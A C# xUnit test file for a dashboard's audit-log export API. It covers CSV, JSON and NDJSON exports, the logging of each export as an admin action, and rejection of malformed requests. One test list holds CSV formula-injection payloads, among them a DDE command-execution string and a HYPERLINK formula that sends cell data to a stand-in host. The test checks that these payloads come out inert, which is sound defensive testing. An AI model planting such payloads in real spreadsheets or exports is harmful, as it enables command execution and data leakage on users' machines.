using System.Text.Json.Nodes;
using Stoa.Dashboard.Tests.Support;

namespace Stoa.Dashboard.Tests.Api;

public sealed class ExportTests(StoaApp app) : IClassFixture<StoaApp>
{
    private static readonly DateTimeOffset T0 = StoaApp.Epoch.AddHours(-5);

    public static readonly TheoryData<string> FormulaPayloads =
        ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "a,=1+1", "a\"=1+1"];

    [Fact]
    public async Task Csv_has_a_header_and_every_row_in_the_window_oldest_first()
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.OperatorAsync(tenant);
        await client.IngestAsync(tenant, Enumerable.Range(0, 250).Select(i => (JsonNode)Wire.Request($"e{i:D3}", T0.AddSeconds(i))).ToArray());

        var response = await client.GetAsync($"/v1/audit/{tenant}/export/csv?from=2026-03-11T07:00:10Z&to=2026-03-11T07:03:20Z");
        var csv = await response.Content.ReadAsStringAsync();

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"attachment; filename=\"stoa-audit_{tenant}_requests_20260311T070010Z_20260311T070320Z.csv\"",
            response.Content.Headers.ContentDisposition?.ToString());
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("timestamp,request_id,tenant_id,consumer_id,consumer_name,api_id,method,path,status_code", lines[0]);
        Assert.Equal(190 + 1, lines.Length); // seconds 10..199 and the header: more than any page, no limit
        Assert.StartsWith("2026-03-11T07:00:10.000Z,e010,", lines[1]);
        Assert.StartsWith("2026-03-11T07:03:19.000Z,e199,", lines[^1]);
    }

    [Theory]
    [MemberData(nameof(FormulaPayloads))]
    public async Task Formula_payloads_come_out_inert_in_csv(string payload)
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.OperatorAsync(tenant);
        var request = Wire.Request("f1", T0);
        request["consumer_name"] = payload;
        await client.IngestAsync(tenant, request);

        var csv = await client.GetStringAsync($"/v1/audit/{tenant}/export/csv");
        var cell = Csv.Parse(csv)[1][4];

        Assert.Equal(payload[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' ? "'" + payload : payload, cell);
        Assert.False(cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n', $"cell starts with a formula trigger: {cell}");
    }

    [Fact]
    public async Task Json_export_has_the_contract_envelope()
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.OperatorAsync(tenant);
        await client.IngestAsync(tenant, Wire.Security("s1", T0), Wire.Security("s2", T0.AddSeconds(1), type: "key_rotated", outcome: "success"));

        var response = await client.GetAsync($"/v1/audit/{tenant}/export/json?layer=security&event_type=key_rotated&from=2026-03-11T00:00:00Z");
        var json = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;

        Assert.Equal(tenant, (string?)json["tenant_id"]);
        Assert.Equal("2026-03-11T00:00:00.000Z", (string?)json["from"]);
        Assert.Null(json["to"]);
        Assert.Equal("2026-03-11T12:00:00.000Z", (string?)json["exported_at"]);
        Assert.Equal(["s2"], json["events"]!.AsArray().Select(e => (string?)e!["event_id"]));
        Assert.Contains("_security_20260311T000000Z_20260311T120000Z.json", response.Content.Headers.ContentDisposition?.ToString());
    }

    [Fact]
    public async Task Ndjson_export_has_one_event_per_line()
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.OperatorAsync(tenant);
        await client.IngestAsync(tenant, Wire.Business(T0, resourceId: "1"), Wire.Business(T0.AddSeconds(1), resourceId: "2"));

        var body = await client.GetStringAsync($"/v1/audit/{tenant}/export/ndjson?layer=business");
        var lines = body.Split('\n', StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal(["1", "2"], lines.Select(l => (string?)JsonNode.Parse(l)!["resource_id"]));
    }

    [Fact]
    public async Task Every_export_is_recorded_as_an_admin_action()
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.ClientWithTokenAsync("operator", [tenant], name: "auditor-jane");
        await client.IngestAsync(tenant, Wire.Request("x1", T0), Wire.Request("x2", T0.AddSeconds(1)));

        await client.GetStringAsync($"/v1/audit/{tenant}/export/csv?consumer_id=cons_a&from=2026-03-11T00:00:00Z");

        var events = await client.GetJsonAsync($"/v1/audit/{tenant}/security?event_type=admin_action");
        var recorded = events["events"]![0]!;
        Assert.Equal("auditor-jane", (string?)recorded["actor"]);
        Assert.Equal("export:requests", (string?)recorded["target"]);
        Assert.Equal("success", (string?)recorded["outcome"]);
        var details = recorded["details"]!;
        Assert.Equal(2, (int)details["rows"]!);
        Assert.Equal("csv", (string?)details["format"]);
        Assert.Equal("2026-03-11T00:00:00.000Z", (string?)details["from"]);
        Assert.Contains("consumer_id=cons_a", (string?)details["query"]);
        Assert.Equal(64, ((string?)details["sha256"])!.Length);
    }

    [Theory]
    [InlineData("/export/pdf")]
    [InlineData("/export/csv?limit=10")]
    [InlineData("/export/csv?layer=audit")]
    [InlineData("/export/csv?layer=security&status=500")]
    public async Task Bad_export_requests_are_400(string path)
    {
        var tenant = StoaApp.NewTenant();
        var client = await app.OperatorAsync(tenant);
        await client.IngestAsync(tenant, Wire.Request("y", T0));
        await (await client.GetAsync($"/v1/audit/{tenant}{path}")).ProblemAsync(400);
    }
}
